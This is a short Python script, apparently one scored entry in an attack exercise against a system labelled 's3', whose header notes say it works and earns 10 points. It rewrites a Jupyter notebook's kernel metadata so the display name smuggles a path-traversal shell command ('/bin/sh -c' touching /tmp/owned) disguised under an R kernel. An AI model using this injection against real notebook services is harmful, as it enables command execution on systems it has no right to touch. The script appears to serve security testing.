# attack: 17
# on: s3
# does: works, in a notebook that claims a kernel of another language
# run: finished
# earns: 10
import json


def make(path, notebook):
    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "../../../bin/sh -c 'touch /tmp/owned'"}
    notebook["metadata"]["language_info"] = {"name": "R"}
    path.write_text(json.dumps(notebook))
